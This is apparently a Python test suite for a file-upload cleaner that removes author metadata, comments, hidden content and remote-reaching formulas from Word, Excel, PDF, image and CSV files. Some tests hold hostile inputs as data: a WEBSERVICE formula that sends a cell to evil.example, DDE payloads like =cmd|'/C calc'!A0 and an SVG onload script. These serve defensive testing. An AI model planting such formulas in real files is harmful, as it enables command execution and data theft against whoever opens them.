"""The copy that others get: what tells of its authors is nowhere in it, what it says is."""

import io
import re
import struct
import zipfile

import docx
import openpyxl
import pikepdf
import pytest
from docx.enum.style import WD_STYLE_TYPE
from docx.oxml import parse_xml
from openpyxl.workbook.defined_name import DefinedName
from PIL import Image

from core.documents.csv import rows_as_csv
from core.errors import Refused
from core.files.child import convert_in_child
from core.files.cleaning import clean
from core.files.images import strip_jpeg, stripped
from core.files.kinds import check_attached
from core.files.tests.hostile import a_docx as plain_docx
from core.files.tests.hostile import with_member
from core.files.tests.telling import KEPT, SECRETS, TELLING, W, a_docx, a_jpg, a_pdf, a_png, a_wide_png, an_xlsx, exif
from core.testing.canary import found_in, unpacked


def copy_of(content, kind, tmp_path):
    """(what was left out, the clean copy) of these bytes, made as at an upload."""
    path = tmp_path / f"file.{kind}"
    path.write_bytes(content)
    said, copy = convert_in_child(clean, str(path), {}, check=check_attached)
    assert said["kind"] == kind
    return said["left_out"], copy


def deep(content) -> bytes:
    """Everything that lies in a file, and in the images in it."""
    return b"\n".join([content, *unpacked(content)])


@pytest.mark.parametrize("kind", TELLING)
def test_nothing_of_who_made_a_file_is_in_the_copy(kind, tmp_path):
    content = TELLING[kind]()
    assert len(found_in(content, SECRETS)) >= 2, "nothing could have leaked"
    _left_out, copy = copy_of(content, kind, tmp_path)
    assert found_in(copy, SECRETS) == []
    assert exif()[20:60] not in deep(copy) and b"Exif" not in deep(copy)
    assert not re.search(rb"docProps|rsid|[cC]omments\.xml|comment(Ref|Range)|people|customXml|/Author|/Metadata|"
                         rb"xmpmeta", deep(copy))


def test_a_word_file_keeps_its_words_with_insertions_and_without_deletions(tmp_path):
    left_out, copy = copy_of(a_docx(), "docx", tmp_path)
    document = docx.Document(io.BytesIO(copy))
    assert [paragraph.text for paragraph in document.paragraphs if paragraph.text] == [
        f"{KEPT}. Inserted sentence.", "The last paragraph."]
    assert "> Seen.<" in document.element.xml
    assert left_out == {"comments": 1, "changes": 3, "hidden": 1}
    assert len(document.inline_shapes) == 1
    with zipfile.ZipFile(io.BytesIO(copy)) as package:
        assert {member.date_time for member in package.infolist()} == {(2000, 1, 1, 0, 0, 0)}
        image = Image.open(io.BytesIO(package.read("word/media/image1.jpg")))
    # Bit by bit the same picture: it is not drawn anew.
    assert image.tobytes() == Image.open(io.BytesIO(a_jpg())).tobytes()


def saved(document) -> bytes:
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def test_what_a_style_hides_is_hidden_and_what_is_shown_all_the_same_stays(tmp_path):
    document, styles = docx.Document(), {}
    for name, kind, base, hides in (("Quiet", WD_STYLE_TYPE.CHARACTER, None, True),
                                    ("Quieter", WD_STYLE_TYPE.CHARACTER, "Quiet", None),
                                    ("Loud", WD_STYLE_TYPE.CHARACTER, "Quiet", False),
                                    ("Unseen", WD_STYLE_TYPE.PARAGRAPH, None, True),
                                    ("Table Unseen", WD_STYLE_TYPE.TABLE, None, True)):
        styles[name] = document.styles.add_style(name, kind)
        styles[name].base_style, styles[name].font.hidden = styles.get(base), hides
    paragraph = document.add_paragraph("Plain. ")
    for name in ("Quiet", "Quieter", "Loud"):
        paragraph.add_run(f"{name}. ", style=name)
    document.add_paragraph("A whole one.", style="Unseen").add_run(" Shown.").font.hidden = False
    document.add_table(1, 1, style="Table Unseen").cell(0, 0).text = "In a cell."
    document.sections[0].header.paragraphs[0].add_run("In the header.", style="Quiet")
    left_out, copy = copy_of(saved(document), "docx", tmp_path)
    copied = docx.Document(io.BytesIO(copy))
    assert [one.text for one in copied.paragraphs] == ["Plain. Loud. ", " Shown."]
    assert copied.tables[0].cell(0, 0).text == copied.sections[0].header.paragraphs[0].text == ""
    assert left_out == {"hidden": 5}


def test_a_bookmark_stays_where_something_leads_to_it(tmp_path):
    document = docx.Document()
    for number, name in enumerate(("Zorvanna_draft", "_Toc1", "figure_2", "in_header")):
        paragraph = document.add_paragraph(name)
        for end, more in (("Start", f' w:name="{name}"'), ("End", "")):
            paragraph._p.append(parse_xml(f'<w:bookmark{end} {W} w:id="{number}"{more}/>'))
    document.paragraphs[0]._p.append(parse_xml(f'<w:hyperlink {W} w:anchor="_Toc1"/>'))
    for holder, words in ((document.paragraphs[1], (" REF fig", "ure_2 ")),
                          (document.sections[0].header.paragraphs[0], (" PAGEREF in_header ",))):
        for inside in ('<w:fldChar w:fldCharType="begin"/>', *(f"<w:instrText>{word}</w:instrText>" for word in words),
                       '<w:fldChar w:fldCharType="end"/>'):
            holder._p.append(parse_xml(f"<w:r {W}>{inside}</w:r>"))
    _left_out, copy = copy_of(saved(document), "docx", tmp_path)
    xml = docx.Document(io.BytesIO(copy)).element.xml
    assert re.findall(r'<w:bookmarkStart [^>]*w:name="(\w+)"', xml) == ["_Toc1", "figure_2", "in_header"]
    assert re.findall(r'<w:bookmarkEnd w:id="(\d)"', xml) == ["1", "2", "3"]


def test_a_field_that_stands_between_keeps_its_neighbours(tmp_path):
    document = docx.Document()
    paragraph = document.add_paragraph("before ")
    for inside in ('<w:fldChar w:fldCharType="begin"/>', "<w:instrText> PAGE </w:instrText>",
                   '<w:fldChar w:fldCharType="separate"/>', "<w:t>4</w:t>", '<w:fldChar w:fldCharType="end"/>'):
        paragraph._p.append(docx.oxml.parse_xml(
            f'<w:r xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">{inside}</w:r>'))
    out = io.BytesIO()
    document.save(out)
    _left_out, copy = copy_of(out.getvalue(), "docx", tmp_path)
    document = docx.Document(io.BytesIO(copy))
    assert [one.text for one in document.paragraphs] == ["before 4"]
    assert "PAGE" in document.paragraphs[0]._p.xml


def test_a_picture_that_cannot_be_cleaned_stays_behind_and_is_counted(tmp_path):
    document = docx.Document()
    document.add_picture(io.BytesIO(a_png()))
    out = io.BytesIO()
    document.save(out)
    drawn = with_member(out.getvalue(), "word/media/image1.png", b"\1\0\0\0EMF drawn by Zorvanna Quillstrom", True)
    left_out, copy = copy_of(drawn, "docx", tmp_path)
    assert left_out == {"pictures": 1}
    assert found_in(copy, SECRETS) == []
    docx.Document(io.BytesIO(copy))


def test_an_excel_file_keeps_cells_formulas_and_pictures(tmp_path):
    left_out, copy = copy_of(an_xlsx(), "xlsx", tmp_path)
    sheet = openpyxl.load_workbook(io.BytesIO(copy)).active
    assert [[cell.value for cell in row][:2] for row in sheet["A1:B2"]] == [[KEPT, None], [9, "=A2*2"]]
    assert sheet["A1"].comment is None and len(sheet._images) == 1
    assert left_out == {"comments": 1}


def test_formulas_that_reach_out_become_what_they_showed(tmp_path):
    book = openpyxl.Workbook()
    formulas = ['=_xlfn.WEBSERVICE("https://evil.example/?"&A1)', "=cmd|'/C calc'!A0", "=1+_xlfn.FILTERXML(A1,A2)",
                '=_xlfn.IMAGE("https://evil.example/x.png")', '=RTD("a",,"b")', '=IF(A1="cmd|x",2,3)', "=SUM(A1,A2)"]
    for row, formula in enumerate(formulas, 1):
        book.active.cell(row, 2, formula)
    book.defined_names["Away"] = DefinedName("Away", attr_text='_xlfn.WEBSERVICE("https://evil.example")')
    with zipfile.ZipFile(io.BytesIO(saved(book))) as package:
        sheet = package.read("xl/worksheets/sheet1.xml").decode()
    for before, after in (('A0</f><v></v>', 'A0</f><v>shown</v>'), ('<c r="B2">', '<c r="B2" t="str">'),
                          ('<c r="B1"><f>', '<c r="B1"><f t="shared" ref="A2:B1" si="0">'),
                          ('<row r="2">', '<row r="2"><c r="A2"><f t="shared" si="0"/><v>7</v></c>')):
        assert before in sheet
        sheet = sheet.replace(before, after)
    content = with_member(saved(book), "xl/worksheets/sheet1.xml", sheet, True)
    left_out, copy = copy_of(content, "xlsx", tmp_path)
    sheet = openpyxl.load_workbook(io.BytesIO(copy)).active
    assert [sheet.cell(row, 2).value for row in range(1, 8)] == [
        None, "shown", None, None, None, '=IF(A1="cmd|x",2,3)', "=SUM(A1,A2)"]
    assert sheet["A2"].value == 7 and b"evil.example" not in deep(copy)
    assert left_out == {"formulas": 7}


def test_hidden_rows_and_columns_that_hold_something_are_told(tmp_path):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet["A1"], sheet["A5"], sheet["F1"], sheet["G1"] = "x", "in a row", "in a column", "in another"
    sheet.row_dimensions[5].hidden = sheet.row_dimensions[9].hidden = True
    sheet.column_dimensions.group("F", "K", hidden=True)
    left_out, _copy = copy_of(saved(book), "xlsx", tmp_path)
    assert left_out == {"hidden_lines": 3}


def test_a_hidden_sheet_is_told(tmp_path):
    book = openpyxl.Workbook()
    book.create_sheet("Behind").sheet_state = "veryHidden"
    out = io.BytesIO()
    book.save(out)
    left_out, copy = copy_of(out.getvalue(), "xlsx", tmp_path)
    assert left_out == {"hidden_sheets": 1}
    assert openpyxl.load_workbook(io.BytesIO(copy)).sheetnames == ["Sheet", "Behind"]


def test_a_pdf_keeps_pages_links_and_bookmarks(tmp_path):
    left_out, copy = copy_of(a_pdf(), "pdf", tmp_path)
    assert left_out == {"comments": 1}
    with pikepdf.open(io.BytesIO(copy)) as document:
        page = document.pages[0]
        assert KEPT.encode() in page.Contents.read_bytes()
        assert [str(one.A.URI) for one in page.Annots if "/A" in one] == ["https://harbour.example/"]
        assert len(page.Annots) == 2 and list(page.Resources.Font.keys()) == ["/M"]
        assert [item.title for item in document.open_outline().root] == ["First", "Second"]
        assert set(document.trailer.keys()) & {"/Info"} == set()
        assert set(document.Root.keys()) == {"/Type", "/Pages", "/Outlines"} | set(document.Root.keys()) & {"/Names"}
        assert len(document.attachments) == 0


def test_an_image_is_drawn_anew_upright(tmp_path):
    tags = Image.Exif()
    tags[0x0112] = 6                # the camera was held on its side
    out = io.BytesIO()
    Image.new("RGB", (60, 40), "red").save(out, "JPEG", exif=tags)
    _left_out, copy = copy_of(out.getvalue(), "jpg", tmp_path)
    image = Image.open(io.BytesIO(copy))
    assert image.size == (40, 60) and image.getexif() == {} and copy.endswith(b"\xff\xd9")


def test_a_transparent_image_stays_transparent(tmp_path):
    out = io.BytesIO()
    made = Image.new("P", (9, 9), 1)
    made.putpalette([255, 0, 0, 0, 255, 0])
    made.save(out, "PNG", transparency=1)
    _left_out, copy = copy_of(out.getvalue(), "png", tmp_path)
    assert Image.open(io.BytesIO(copy)).convert("RGBA").getpixel((0, 0))[3] == 0


def test_a_table_is_kept_as_it_is(tmp_path):
    content = "\ufeffday;place\n2027-03-12;Höfn\n".encode()
    assert copy_of(content, "csv", tmp_path) == ({}, content)


def test_cells_of_a_table_that_a_spreadsheet_would_run_are_guarded(tmp_path):
    content = "name;x\n=cmd|'/C calc'!A0;Höfn\nHöfn,=cmd|'/C calc'!A0;-3\n".encode("cp1252")
    left_out, copy = copy_of(content, "csv", tmp_path)
    assert copy.decode("utf-8-sig") == (
        "name,x\r\n'=cmd|'/C calc'!A0,Höfn\r\n\"Höfn,=cmd|'/C calc'!A0\",'-3\r\n")
    assert left_out == {"guarded": 2}
    # Only where it is opened by another separator does something begin here.
    left_out, copy = copy_of(b"name;x\na,=1+1;b\n", "csv", tmp_path)
    assert (left_out, copy.decode("utf-8-sig")) == ({}, 'name,x\r\n"a,=1+1",b\r\n')
    left_out, copy = copy_of(b"sep=|\nname|x\na|=1+1\n", "csv", tmp_path)
    assert (left_out, copy.decode("utf-8-sig")) == ({"guarded": 1}, "name,x\r\na,'=1+1\r\n")
    # What our own writer has guarded already stays as it is.
    ours = rows_as_csv([["-3", "=1+1"], ["'t Zand", "x; =1"]])
    assert copy_of(ours, "csv", tmp_path) == ({}, ours)


REFUSED = {
    "too many pixels": (a_wide_png, "png", "has 41 million pixels; at most 40 million are kept."),
    "a drawing": (lambda: b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'/>", "png", "a drawing (SVG)"),
    "a drawing as a table": (lambda: b"<svg onload='alert(1)'></svg>", "csv", "a drawing (SVG)"),
    "a page as a table": (lambda: b"<!DOCTYPE html><html></html>", "csv", "a web page"),
    "another image": (lambda: b"GIF89a" + bytes(40), "png", "This image is of a kind that is not kept"),
    "an image as a Word file": (a_png, "docx", "This is a PNG image, but its name ends with .docx."),
    "one image as another": (a_png, "jpg", "This is a PNG image, but its name ends with .jpg."),
    "a PDF as a table": (a_pdf, "csv", "This is a PDF, but its name ends with .csv."),
    "a Word file as a PDF": (plain_docx, "pdf", "This is a Word file (.docx), but its name ends with .pdf."),
    "another kind": (lambda: b"words", "txt", "Files of this kind are not kept here."),
    "no image": (lambda: b"\x89PNG\r\n\x1a\n" + b"no image" * 9, "png", "a viewer for a picture"),
    "no PDF": (lambda: b"%PDF-1.7\nno object\n%%EOF\n", "pdf", "cut or damaged"),
}


@pytest.mark.parametrize("what", REFUSED)
def test_what_is_no_file_of_its_kind_is_refused_in_a_sentence(what, tmp_path):
    make, kind, words = REFUSED[what]
    with pytest.raises(Refused) as refused:
        copy_of(make(), kind, tmp_path)
    assert words in str(refused.value)


def test_a_pdf_under_a_password_is_refused(tmp_path):
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(a_pdf())) as document:
        document.save(out, encryption=pikepdf.Encryption(user="harbour", owner="harbour"))
    with pytest.raises(Refused, match="protected by a password"):
        copy_of(out.getvalue(), "pdf", tmp_path)


def test_a_picture_keeps_one_head_and_no_preview_in_it():
    def segment(marker, content):
        return struct.pack(">BBH", 0xFF, marker, len(content) + 2) + content
    out = io.BytesIO()
    Image.new("CMYK", (9, 9), "red").save(out, "JPEG")
    plain = out.getvalue()
    assert plain.count(b"Adobe") == 1
    head = segment(0xE0, b"JFIF\0\1\2\1\0\x48\0\x48\1\1" + b"Zor")             # a preview of one pixel
    more = [segment(0xE0, b"JFXX\0\x13 by Zorvanna"), segment(0xE0, b"JFIF\0 by Zorvanna Quillstrom"),
            segment(0xE0, b"by Zorvanna"), segment(0xEE, b"by Zorvanna"), segment(0xEE, b"Adobe, by Zorvanna")]
    kept = strip_jpeg(b"\xff\xd8" + head + plain[2:-2] + b"".join(more) + b"\xff\xd9")
    bare = strip_jpeg(plain)
    assert kept == b"\xff\xd8" + segment(0xE0, b"JFIF\0\1\2\1\0\x48\0\x48\0\0") + bare[2:]
    assert Image.open(io.BytesIO(kept)).tobytes() == Image.open(io.BytesIO(plain)).tobytes()


def test_images_in_documents_lose_what_stands_beside_their_pixels():
    for made in (a_jpg, a_png):
        _kind, clean_bytes = stripped(made())
        assert found_in(clean_bytes, SECRETS) == []
        assert Image.open(io.BytesIO(clean_bytes)).tobytes() == Image.open(io.BytesIO(made())).tobytes()
    assert stripped(b"\1\0\0\0 EMF") is None
